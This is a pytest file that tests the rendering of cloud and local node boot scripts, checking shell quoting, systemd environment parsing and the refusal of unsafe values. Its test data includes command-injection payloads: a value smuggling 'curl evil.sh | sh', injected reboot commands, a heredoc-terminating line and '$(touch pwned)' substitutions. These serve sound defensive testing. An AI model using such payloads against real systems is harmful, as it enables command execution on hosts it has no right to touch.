"""Node user-data: small enough for EC2, shellcheck-clean, and it boots what it says."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys

import pytest

from stacks.shellcheck import EXAMPLE_BUCKET, shellcheck, shellcheck_all
from tidefleet.config import INIT_SCRIPT_DELIMITER, load_environment
from tidefleet.userdata import EC2_USER_DATA_LIMIT, LOCAL_PYTHON, render_user_data

# Nothing resolved or fetched at boot: the published wheels, checked against their hashes.
INSTALL = ("/opt/tidefleet/venv/bin/pip install --no-cache-dir --no-index --find-links /opt/tidefleet/agent/wheels "
           "--require-hashes --no-deps -r /opt/tidefleet/agent/requirements.txt")  # fmt: skip


def test_every_environments_user_data_is_shellcheck_clean_in_both_modes():
    assert shellcheck_all() == []


def test_shellcheck_does_report_a_broken_script():
    assert "SC2086" in shellcheck("#!/bin/bash\nrm $1\n")


@pytest.mark.parametrize("local", [None, {LOCAL_PYTHON: "/usr/bin/python3"}], ids=["cloud", "local"])
def test_prods_biggest_pool_renders_under_ec2s_16_kb_limit(local):
    env = load_environment("prod")
    sizes = {p: len(render_user_data(env, p, artifacts_bucket=EXAMPLE_BUCKET, local=local).encode()) for p in env.pools}
    assert max(sizes.values()) < EC2_USER_DATA_LIMIT, sizes


def test_cloud_mode_installs_the_agent_from_the_bucket_and_runs_it_as_a_service():
    env = load_environment("prod")
    script = render_user_data(env, "gpu", artifacts_bucket="tidefleet-prod-artifacts-1")
    assert "aws s3 cp --recursive --region us-east-1 s3://tidefleet-prod-artifacts-1/agent/" in script
    assert INSTALL in script
    assert "ExecStart=/opt/tidefleet/venv/bin/tidefleet agent --env prod --pool gpu\n" in script
    assert 'Environment="NCCL_DEBUG=WARN"' in script
    assert "systemctl enable --now tidefleet-agent.service" in script
    # The stop's SIGTERM to the agent alone, which asks its workloads to checkpoint first: to every
    # process at once, a workload that exited on it before the drain read as failed.
    assert "\nKillMode=mixed\n" in script


def test_an_unknown_pool_is_refused_by_name():
    with pytest.raises(ValueError, match="unknown pool.*'nope'.*known pools: cpu"):
        render_user_data(load_environment("dev"), "nope", artifacts_bucket="b")


def test_local_mode_exports_the_variables_runs_the_init_script_then_execs_the_agent(tmp_path):
    """Run the rendered script with bash; a stand-in 'python' prints what it was given."""
    fake_python = tmp_path / "py thon"
    fake_python.write_text('#!/bin/bash\necho "args: $*"\necho "endpoint: $AWS_ENDPOINT_URL"\necho "nccl: $NCCL_DEBUG"\n'
                           'echo "marker: $(cat "$MARKER")"\n')  # fmt: skip
    fake_python.chmod(0o755)
    env = load_environment("prod")
    pool = env.pools["gpu"].model_copy(update={"init_script": 'echo "init ran" > "$MARKER"', "env": {"NCCL_DEBUG": "it's \"quoted\" $HOME"}})
    env = env.model_copy(update={"pools": {**env.pools, "gpu": pool}})
    local = {"AWS_ENDPOINT_URL": "http://127.0.0.1:5000", "MARKER": str(tmp_path / "marker"), LOCAL_PYTHON: str(fake_python)}
    script = render_user_data(env, "gpu", artifacts_bucket="unused", local=local)
    assert "systemctl" not in script and "dnf" not in script
    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, env={"PATH": os.environ["PATH"]}, check=True).stdout
    assert out.splitlines() == [
        "args: -m tidefleet.cli agent --env prod --pool gpu",
        "endpoint: http://127.0.0.1:5000",
        "nccl: it's \"quoted\" $HOME",
        "marker: init ran",
    ]


def _with_pool(environment, pool_name, **changes):
    pool = environment.pools[pool_name].model_copy(update=changes)
    return environment.model_copy(update={"pools": {**environment.pools, pool_name: pool}})


# Values validation refuses, put into an Environment built in code: rendering refuses them too.
REFUSED = [
    ("env value with a newline", "dev", lambda env: _with_pool(env, "cpu", env={"A": "one\nreboot"}),
     "pools.cpu.env.A: a value must be one line"),
    ("init_script ending the heredoc", "dev", lambda env: _with_pool(env, "cpu", init_script="true\nTIDEFLEET_INIT_SCRIPT\nreboot"),
     "pools.cpu.init_script: may not contain TIDEFLEET_INIT_SCRIPT"),
    ("project id with a newline", "gcp-dev", lambda env: env.model_copy(update={"project": "acme\ncurl evil.sh | sh"}),
     "project: not a GCP project id"),
    ("region with a command", "dev", lambda env: env.model_copy(update={"region": "us-east-1; reboot"}),
     "region: not a known aws region"),
    ("environment name with a newline", "dev", lambda env: env.model_copy(update={"name": "dev\nreboot"}),
     "name: bad environment name"),
    ("pool name with a newline", "dev", lambda env: env.model_copy(update={"pools": {"cpu\nreboot": env.pools["cpu"]}}),
     "pools.cpu\nreboot: bad name"),
]  # fmt: skip


@pytest.mark.parametrize("case,env_name,change,expected", REFUSED, ids=[c[0] for c in REFUSED])
def test_a_value_that_would_escape_the_boot_script_is_refused_by_field(case, env_name, change, expected):
    env = change(load_environment(env_name))
    pool = next(iter(env.pools))
    with pytest.raises(ValueError) as err:
        render_user_data(env, pool, artifacts_bucket="b")
    assert expected in str(err.value)


# Values validation accepts that mean something to bash or systemd: each must arrive as itself.
HOSTILE_ENV = {
    "SUBSTITUTION": "$(touch pwned) ${HOME}",
    "BACKTICKS": "`touch pwned`",
    "QUOTES": "it's \"quoted\"; touch pwned; '",
    "SYSTEMD": "%h %% \\n \\\" x",
    "GLOB": "a b * ? [x]",
    "DELIMITER": "UNIT",
}
HOSTILE_BUCKET = "b\"%h'; touch pwned; 'x"


def _systemd_environment(unit: str) -> dict[str, str]:
    """The Environment= assignments of a unit, each read as systemd reads one double-quoted
    word: backslash escapes the next character, '%%' is '%', and a lone '%' would be a specifier."""
    out = {}
    for line in unit.splitlines():
        if not line.startswith("Environment="):
            continue
        text = line.removeprefix("Environment=")
        assert text[0] == text[-1] == '"', f"not one quoted word: {line}"
        chars, value = iter(text[1:-1]), ""
        for c in chars:
            if c == "\\":
                value += next(chars)
            elif c == "%":
                assert next(chars) == "%", f"a specifier systemd would expand: {line}"
                value += "%"
            else:
                assert c != '"', f"a quote ends the word early: {line}"
                value += c
        key, _, val = value.partition("=")
        out[key] = val
    return out


@pytest.mark.parametrize("env_name,pool", [("prod", "gpu"), ("gcp-dev", "gpu")])
def test_hostile_values_stay_one_word_in_the_cloud_boot_script(env_name, pool):
    env = _with_pool(load_environment(env_name), pool, env=HOSTILE_ENV, init_script="echo 'UNIT' \"$(date)\"")
    script = render_user_data(env, pool, artifacts_bucket=HOSTILE_BUCKET)
    assert shellcheck(script) == ""
    # The unit is the one quoted heredoc that ends on the line UNIT; systemd reads each value back whole.
    unit = script.split("<<'UNIT'\n", 1)[1].split("\nUNIT\n", 1)[0]
    assert "\nUNIT\n" not in unit
    assigned = _systemd_environment(unit)
    assert {k: assigned[k] for k in HOSTILE_ENV} == HOSTILE_ENV
    assert assigned["TIDEFLEET_ARTIFACTS_BUCKET"] == HOSTILE_BUCKET
    # The shell line that fetches the agent passes the bucket as one argument.
    (fetch,) = [line for line in script.splitlines() if line.startswith(("aws s3 cp", "gcloud storage cp"))]
    assert any(word.startswith(("s3://", "gs://")) and HOSTILE_BUCKET in word for word in shlex.split(fetch))


def test_hostile_values_arrive_unchanged_when_the_local_boot_script_runs(tmp_path):
    """Run the rendered script with bash: a stand-in interpreter reports its argv and environment."""
    fake_python = tmp_path / "fake python"
    fake_python.write_text(f"#!/bin/bash\nexec {shlex.quote(sys.executable)} -c "
                           "'import json, os, sys; print(json.dumps([sys.argv[1:], dict(os.environ)]))' \"$@\"\n")  # fmt: skip
    fake_python.chmod(0o755)
    init = "printf '%s' \"$(echo ran)\" > marker\necho 'UNIT' >> marker"
    env = _with_pool(load_environment("prod"), "gpu", env=HOSTILE_ENV, init_script=init)
    script = render_user_data(env, "gpu", artifacts_bucket=HOSTILE_BUCKET, local={LOCAL_PYTHON: str(fake_python), "X": HOSTILE_BUCKET})
    assert shellcheck(script) == ""
    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, cwd=tmp_path,
                         env={"PATH": os.environ["PATH"]}, check=True).stdout  # fmt: skip
    argv, environ = json.loads(out)
    assert argv == ["-m", "tidefleet.cli", "agent", "--env", "prod", "--pool", "gpu"]
    assert {k: environ[k] for k in HOSTILE_ENV} == HOSTILE_ENV and environ["X"] == HOSTILE_BUCKET
    assert (tmp_path / "marker").read_text() == "ranUNIT\n"
    assert not (tmp_path / "pwned").exists()


def test_the_sandbox_can_render_with_its_own_interpreter():
    script = render_user_data(load_environment("sandbox"), "cpu", artifacts_bucket="b", local={LOCAL_PYTHON: sys.executable})
    assert script.rstrip().endswith(f"exec {sys.executable} -m tidefleet.cli agent --env sandbox --pool cpu")


def test_a_gce_node_installs_the_published_wheels_alone_google_clients_included():
    env = load_environment("gcp-dev")
    script = render_user_data(env, "cpu", artifacts_bucket="tidefleet-gcp-dev-artifacts-acme-ml-dev")
    assert INSTALL in script and "gcp-node" not in script  # the extra is in the published requirements
    assert "gs://tidefleet-gcp-dev-artifacts-acme-ml-dev/agent/*" in script


def with_pool(env_name: str, **changes):
    env = load_environment(env_name)
    pool = env.pools["cpu"].model_copy(update=changes)
    return env.model_copy(update={"pools": {**env.pools, "cpu": pool}})


@pytest.mark.parametrize("env_name", ["dev", "gcp-dev"])
@pytest.mark.parametrize(("run_as_root", "creates_user"), [(False, True), (True, False)])
def test_boot_creates_the_unprivileged_item_user_and_the_agent_uses_it_unless_the_pool_runs_as_root(env_name, run_as_root, creates_user):
    script = render_user_data(with_pool(env_name, run_as_root=run_as_root), "cpu", artifacts_bucket="b")
    assert ("useradd --system" in script) is creates_user
    assert ('Environment="TIDEFLEET_ITEM_USER=tidefleet-item"' in script) is creates_user, "the agent runs items as it"
    assert shellcheck(script) == ""


@pytest.mark.parametrize(("exists", "useradd_calls"), [
    (False, ["--system --create-home --home-dir /var/lib/tidefleet-item --shell /usr/sbin/nologin tidefleet-item"]),
    (True, []),  # a GCE reboot runs the startup script again
])  # fmt: skip
def test_the_item_user_is_created_once_with_no_login_shell_and_its_own_home(tmp_path, exists, useradd_calls):
    """The rendered line, run with stand-ins for `id` and `useradd` that log their calls."""
    (line,) = [line for line in render_user_data(load_environment("dev"), "cpu", artifacts_bucket="b").splitlines()
               if "useradd" in line]  # fmt: skip
    (tmp_path / "id").write_text(f"#!/bin/bash\nexit {0 if exists else 1}\n")
    (tmp_path / "useradd").write_text(f'#!/bin/bash\necho "$*" >> {tmp_path}/calls\n')
    for tool in ("id", "useradd"):
        (tmp_path / tool).chmod(0o755)
    subprocess.run(["bash", "-euo", "pipefail", "-c", line], check=True, env={"PATH": f"{tmp_path}:{os.environ['PATH']}"})
    calls = tmp_path / "calls"
    assert (calls.read_text().splitlines() if calls.exists() else []) == useradd_calls


def _init_block(script: str) -> str:
    """The boot script's init_script step: from its comment to the line that ends its text, and on to the next blank line."""
    head, text_end, rest = script[script.index("# The pool's init_script") :].partition(f"\n{INIT_SCRIPT_DELIMITER}\n")
    return head + text_end + rest.split("\n\n", 1)[0]


def _run_boot(script: str, local: bool, cwd) -> subprocess.CompletedProcess:
    """Run the local boot script whole, or the cloud one's init_script step (the rest installs
    and starts systemd units), with bash, a bare environment and the console's stdin closed."""
    return subprocess.run(["bash", "-euo", "pipefail", "-c", script if local else _init_block(script)], capture_output=True,
                          text=True, cwd=cwd, env={"PATH": os.environ["PATH"]}, stdin=subprocess.DEVNULL, check=False)  # fmt: skip


def _stand_in_python(tmp_path) -> str:
    fake_python = tmp_path / "fake python"
    fake_python.write_text(f"#!/bin/bash\nexec {shlex.quote(sys.executable)} -c "
                           "'import json, os, sys; print(json.dumps([sys.argv[1:], dict(os.environ)]))' \"$@\"\n")  # fmt: skip
    fake_python.chmod(0o755)
    return str(fake_python)


BOTH_MODES = pytest.mark.parametrize("env_name,local", [("dev", False), ("gcp-dev", False), ("dev", True)],
                                     ids=["aws", "gcp", "local"])  # fmt: skip


@BOTH_MODES
def test_a_command_in_the_init_script_that_reads_stdin_does_not_swallow_the_lines_after_it(tmp_path, env_name, local):
    """ssh, ffmpeg, `docker run -i`, `read`: each reads stdin; the init_script's is /dev/null,
    not the rest of its own text, so every step runs."""
    init = ("echo step1 >> steps\n"
            "cat > swallowed  # stands for any command that reads stdin\n"
            "read -r line || echo \"read: end of input\" >> steps\n"
            "echo 'step2 $HOME `x`' >> steps\n"
            "echo \"step3 $(echo ran)\" >> steps\n")  # fmt: skip
    bootlocal = {LOCAL_PYTHON: _stand_in_python(tmp_path)} if local else None
    script = render_user_data(with_pool(env_name, init_script=init), "cpu", artifacts_bucket="b", local=bootlocal)
    assert shellcheck(script) == ""
    result = _run_boot(script, local, tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "steps").read_text().splitlines() == ["step1", "read: end of input", "step2 $HOME `x`", "step3 ran"]
    assert (tmp_path / "swallowed").read_text() == ""


@BOTH_MODES
def test_a_failing_init_script_fails_the_boot(tmp_path, env_name, local):
    bootlocal = {LOCAL_PYTHON: _stand_in_python(tmp_path)} if local else None
    script = render_user_data(with_pool(env_name, init_script="echo before > steps\nfalse\necho after >> steps"), "cpu",
                              artifacts_bucket="b", local=bootlocal)  # fmt: skip
    result = _run_boot(script, local, tmp_path)
    assert result.returncode != 0 and "tidefleet.cli" not in result.stdout
    assert (tmp_path / "steps").read_text() == "before\n"


@BOTH_MODES
def test_the_init_script_sees_the_pools_env_in_both_modes(tmp_path, env_name, local):
    """The sandbox exported the pool's env before the init_script and EC2/GCE did not: an
    init_script using $DATA_DIR passed in the sandbox and failed the cloud boot (set -u)."""
    values = {**HOSTILE_ENV, "DATA_DIR": "/data/ü dir"}
    init = 'mkdir -p "./$(basename "$DATA_DIR")"\nenv -0 > seen\n'
    bootlocal = {LOCAL_PYTHON: _stand_in_python(tmp_path)} if local else None
    script = render_user_data(with_pool(env_name, env=values, init_script=init), "cpu", artifacts_bucket="b", local=bootlocal)
    assert shellcheck(script) == ""
    result = _run_boot(script, local, tmp_path)
    assert result.returncode == 0, result.stderr
    seen = dict(line.split("=", 1) for line in (tmp_path / "seen").read_text().split("\0") if line)
    assert {k: seen.get(k) for k in values} == values
    assert (tmp_path / "ü dir").is_dir() and not (tmp_path / "pwned").exists()


# Valid env values with a backslash before a quote (SC1003 in plain single quotes) or other backslashes.
BACKSLASHED_ENV = {
    "WIN_PATH": "C:\\data\\",
    "TRAILING_BS": "C:\\",
    "ESCAPED_QUOTE": "a\\'b",
    "BS_QUOTE": "\\'",
    "BS_ALONE": "\\",
    "QUOTE_BS_QUOTE": "'\\''",
    "ANSI_C": "$'\\x41\\n' \\t \\\\ %h\\",
    "MIXED": "it's \"q\" $(touch pwned) `touch pwned` \\ end\\",
}


@BOTH_MODES
def test_a_value_with_backslashes_is_shellcheck_clean_and_arrives_literal(tmp_path, env_name, local):
    """`WIN_PATH = 'C:\\data\\'` drew SC1003 in local mode (`export WIN_PATH='C:\\data\\'`), failing
    `invoke lint` for a valid environment."""
    bootlocal = {LOCAL_PYTHON: _stand_in_python(tmp_path), "X": "D:\\x\\"} if local else None
    env = with_pool(env_name, env=BACKSLASHED_ENV, init_script="env -0 > seen\n")
    script = render_user_data(env, "cpu", artifacts_bucket="b", local=bootlocal)
    assert shellcheck(script) == ""
    result = _run_boot(script, local, tmp_path)
    assert result.returncode == 0, result.stderr
    seen = dict(line.split("=", 1) for line in (tmp_path / "seen").read_text().split("\0") if line)
    assert {k: seen.get(k) for k in BACKSLASHED_ENV} == BACKSLASHED_ENV
    if local:
        environ = json.loads(result.stdout)[1]
        assert {k: environ[k] for k in BACKSLASHED_ENV} == BACKSLASHED_ENV and environ["X"] == "D:\\x\\"
    else:
        unit = script.split("<<'UNIT'\n", 1)[1].split("\nUNIT\n", 1)[0]
        assert {k: _systemd_environment(unit)[k] for k in BACKSLASHED_ENV} == BACKSLASHED_ENV
    assert not (tmp_path / "pwned").exists()
